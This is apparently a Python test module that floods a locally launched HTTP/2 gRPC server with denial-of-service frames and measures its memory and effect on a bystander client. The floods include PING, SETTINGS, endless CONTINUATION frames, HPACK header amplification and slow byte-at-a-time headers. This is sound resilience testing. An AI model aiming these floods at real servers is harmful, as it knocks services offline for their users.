"""Floods of frames that cost the sender little, garbage, and headers that never end."""

import os
import random
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from raw_http2 import ACK, CONTINUATION, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, WINDOW_UPDATE, frame

from attacks.harness.bystander import bystander, undisturbed
from attacks.harness.finding import Finding
from attacks.harness.frames import Wire, headers_block
from attacks.harness.messages import SCORE
from attacks.harness.process import Growth
from attacks.harness.servers import Serve, Server

_BATCH: Final = 100


@dataclass(frozen=True)
class Sizes:
    """How much of it."""

    frames: int
    """Of each kind."""
    slow_connections: int = 20
    seconds: float = 2.0
    """That the slow ones last."""


def floods(serve: Serve, sizes: Sizes) -> list[Finding]:
    """Send each flood in turn to one server; then headers a byte at a time on many connections."""
    findings: list[Finding] = []
    with serve() as server, bystander(server) as other:
        quiet = other.quiet(1)
        for name, make in _FLOODS.items():
            growth, cut = Growth(server.process), _flood(server, make, sizes.frames)
            attack, bar = f"{sizes.frames:,} {name}, {cut} times cut off", _ALLOCATED if make is _large_headers else 64
            findings += [
                Finding(f"{attack}: memory", growth.peak, "MiB", bar),
                *undisturbed(attack, quiet, other.settled()),
            ]
        growth = Growth(server.process)
        _slowly(server, sizes)
        attack = f"{sizes.slow_connections} connections that send headers a byte at a time"
        findings += [
            Finding(f"{attack}: memory", growth.peak, "MiB", 64),
            *undisturbed(attack, quiet, other.settled()),
        ]
    return findings


def _flood(server: Server, make: Callable[[int], Iterator[bytes]], count: int) -> int:
    """Write frames in batches; connect again where the server cuts the connection, and return how often it did."""
    wire, frames, cut = Wire(server.port), make(count), 0
    for _ in range(count // _BATCH):
        batch = b"".join(next(frames) for _ in range(_BATCH))
        if not wire.write(batch):
            wire.close()
            wire, frames, cut = Wire(server.port), make(count), cut + 1
    wire.close()
    return cut


def _pings(count: int) -> Iterator[bytes]:
    for number in range(count + _BATCH):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def _ping_answers(count: int) -> Iterator[bytes]:
    for number in range(count + _BATCH):
        yield frame(PING, ACK, 0, struct.pack(">Q", number))


def _settings(count: int) -> Iterator[bytes]:
    for number in range(count + _BATCH):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**16 + number % 2))


def _window_updates(count: int) -> Iterator[bytes]:
    for _ in range(count + _BATCH):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def _priorities(count: int) -> Iterator[bytes]:
    for number in range(count + _BATCH):
        yield frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 16))


def _garbage(count: int) -> Iterator[bytes]:
    for _ in range(count + _BATCH):
        yield os.urandom(64)


def _random_frames(count: int) -> Iterator[bytes]:
    source = random.Random(1)
    for _ in range(count + _BATCH):
        payload = source.randbytes(source.randrange(40))
        yield frame(source.randrange(12), source.randrange(256), source.randrange(20), payload)


def _continuations(count: int) -> Iterator[bytes]:
    """Headers that go on for ever."""
    yield frame(HEADERS, 0, 1, headers_block(SCORE))
    for number in range(count + _BATCH):
        yield frame(CONTINUATION, 0, 1, b"\x00\x04name\x05" + b"%05d" % (number % 100_000))


def _empty_continuations(count: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, headers_block(SCORE))
    for _ in range(count + _BATCH):
        yield frame(CONTINUATION, 0, 1)


def _large_headers(count: int) -> Iterator[bytes]:
    """Calls whose headers unpack to far more than was sent: one long value, named again and again."""
    stream, value = 1, b"a" * 4000
    first = b"\x40\x04name\x7f\xa1\x1e" + value  # into the dynamic table, where it has the index 62
    block = headers_block(SCORE)
    for _ in range(count + _BATCH):
        yield frame(HEADERS, END_HEADERS, stream, block + first + b"\xbe" * 1000)
        stream += 2


_ALLOCATED: Final = 512
"""MiB: gRPC's allocations reach a plateau there, however long such headers are sent."""

_FLOODS: Final[dict[str, Callable[[int], Iterator[bytes]]]] = {
    "PING": _pings,
    "answers to no PING": _ping_answers,
    "SETTINGS": _settings,
    "WINDOW_UPDATE": _window_updates,
    "PRIORITY": _priorities,
    "pieces of garbage": _garbage,
    "random frames": _random_frames,
    "CONTINUATION": _continuations,
    "empty CONTINUATION": _empty_continuations,
    "headers that unpack to megabytes": _large_headers,
}


def _slowly(server: Server, sizes: Sizes) -> None:
    wires = [Wire(server.port) for _ in range(sizes.slow_connections)]
    data = frame(HEADERS, END_HEADERS, 1, headers_block(SCORE))
    deadline = time.monotonic() + sizes.seconds
    for byte in data:
        for wire in wires:
            if wire.open:
                wire.write(bytes([byte]))
        if time.monotonic() > deadline:
            break
        time.sleep(0.02)
    for wire in wires:
        wire.close()


SMALL: Final = (Sizes(3000),)
FULL: Final = (Sizes(100_000, slow_connections=500, seconds=30),)
